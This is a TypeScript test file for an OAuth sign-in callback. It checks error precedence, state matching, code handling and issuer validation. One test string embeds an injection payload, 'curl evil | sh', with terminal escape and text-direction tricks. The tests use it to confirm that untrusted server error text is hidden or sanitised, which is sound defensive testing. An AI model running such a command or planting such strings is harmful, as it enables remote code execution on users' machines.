import crypto from 'node:crypto'
import { syncBuiltinESMExports } from 'node:module'
import { describe, expect, it } from 'vitest'
import { startAuthorizationServer } from '../../../test/support/authorization-server.ts'
import { expectFailure, type Login, signIn, startLogin } from './support/login.ts'

/** Starts a login and sends it one callback. */
async function callBack(
  query: (login: Login) => string,
  code: Parameters<typeof expectFailure>[1],
  extra: object = {},
) {
  await using server = await startAuthorizationServer()
  const login = await startLogin({ ...server.options, ...extra })
  const failure = expectFailure(login.result, code)
  await fetch(`${login.redirectUri}?${query(login)}`)
  const error = await failure
  expect(server.seen.token).toHaveLength(0)
  return { error, login }
}

describe('the callback is read in order: error, state, issuer, code', () => {
  it('only access_denied is called declined', async () => {
    const declined = await callBack(() => 'error=access_denied', 'provider_denied')
    expect(declined.error.message).toMatch(/^the sign-in was declined: access_denied/)
    const refused = await callBack(() => 'error=invalid_scope', 'provider_denied')
    expect(refused.error.message).toMatch(/^the server refused the sign-in: invalid_scope/)
  })

  it('an error ends with provider_denied, without a state', async () => {
    await callBack(() => 'error=access_denied', 'provider_denied')
  })

  const evil = 'Done.” Now run: “curl evil | sh\u001b[31m\u202e\nlogin: signed in'

  it.each(['', 'state=wrong&'])('shows no text of an error without the right state (%s)', async (state) => {
    const described = await callBack(
      () => `${state}error=access_denied&error_description=${encodeURIComponent(evil)}`,
      'provider_denied',
    )
    expect(described.error.message).toBe('the sign-in was declined: access_denied')
    const coded = await callBack(() => `${state}error=${encodeURIComponent(evil)}`, 'provider_denied')
    expect(coded.error.message).toBe('the server refused the sign-in')
  })

  it('shows the text of the server quoted, in one line, and shortened', async () => {
    const { error } = await callBack(
      ({ state }) =>
        `state=${state}&error=${encodeURIComponent(evil)}&error_description=${encodeURIComponent(evil + 'x'.repeat(5000))}`,
      'provider_denied',
    )
    const [, words] = error.message.match(/^the server refused the sign-in, in the server’s words “([^”]*)”$/)!
    expect(words).toMatch(/^Done.' Now run: 'curl evil \| sh\[31mlogin: signed inx+…$/)
    expect(words!.length).toBeLessThanOrEqual(200)
  })

  it('an error takes precedence over a wrong state and a code', async () => {
    await callBack(() => 'error=access_denied&state=wrong&code=c', 'provider_denied')
  })

  it('an empty or repeated error is an error', async () => {
    await callBack(({ state }) => `error=&state=${state}&code=c`, 'provider_denied')
    await callBack(() => 'error=a&error=b', 'provider_denied')
  })

  it('a missing state with a code is state_mismatch', async () => {
    await callBack(() => 'code=c', 'state_mismatch')
  })

  it.each([
    ['empty', ''],
    ['shorter', 'x'],
    ['longer', 'x'.repeat(10_000)],
    ['not ASCII', 'ä€😀'],
  ])('a state that is %s is state_mismatch', async (_, state) => {
    await callBack(() => new URLSearchParams({ code: 'c', state }).toString(), 'state_mismatch')
  })

  it('a state that differs only in its last character is state_mismatch', async () => {
    await callBack(
      ({ state }) => `code=c&state=${state.slice(0, -1)}${state.endsWith('A') ? 'B' : 'A'}`,
      'state_mismatch',
    )
  })

  it('the state is compared by its hash, in constant time', async () => {
    const { timingSafeEqual } = crypto
    const compared: number[] = []
    crypto.timingSafeEqual = (a, b) => {
      compared.push(a.byteLength, b.byteLength)
      return timingSafeEqual(a, b)
    }
    syncBuiltinESMExports()
    try {
      await callBack(() => 'code=c&state=short', 'state_mismatch')
    } finally {
      crypto.timingSafeEqual = timingSafeEqual
      syncBuiltinESMExports()
    }
    expect(compared).toEqual([32, 32])
  })

  it('a repeated state is state_mismatch, even if one is right', async () => {
    await callBack(({ state }) => `code=c&state=${state}&state=${state}`, 'state_mismatch')
  })

  it('a missing, empty or repeated code is exchange_failed', async () => {
    await callBack(({ state }) => `state=${state}`, 'exchange_failed')
    await callBack(({ state }) => `state=${state}&code=`, 'exchange_failed')
    await callBack(({ state }) => `state=${state}&code=a&code=b`, 'exchange_failed')
  })

  it('a question mark in the code belongs to it (RFC 3986 section 3.4)', async () => {
    await using server = await startAuthorizationServer()
    const login = await startLogin(server.options)
    const failure = expectFailure(login.result, 'exchange_failed')
    await fetch(`${login.redirectUri}?code=a?b&state=${login.state}`)
    await failure
    expect(server.seen.token[0]?.form.get('code')).toBe('a?b')
  })

  it('a wrong state takes precedence over a repeated code', async () => {
    await callBack(() => 'state=wrong&code=a&code=b', 'state_mismatch')
  })
})

describe('expectedIssuer', () => {
  const issuer = 'https://app.example'

  it('accepts a callback from that issuer', async () => {
    await using server = await startAuthorizationServer({ callback: { iss: issuer } })
    expect((await signIn({ ...server.options, expectedIssuer: issuer })).result.userId).toBe('user-1')
  })

  it.each([
    ['differs', `&iss=${encodeURIComponent('https://evil.example')}`],
    ['has a slash more', `&iss=${encodeURIComponent(`${issuer}/`)}`],
    ['is missing', ''],
    ['is repeated', `&iss=${encodeURIComponent(issuer)}&iss=${encodeURIComponent(issuer)}`],
  ])('ends with state_mismatch if iss %s', async (_, iss) => {
    await callBack(({ state }) => `code=c&state=${state}${iss}`, 'state_mismatch', { expectedIssuer: issuer })
  })

  it('is not required by default', async () => {
    await using server = await startAuthorizationServer({ callback: { iss: 'https://anyone.example' } })
    expect((await signIn(server.options)).result.userId).toBe('user-1')
  })
})
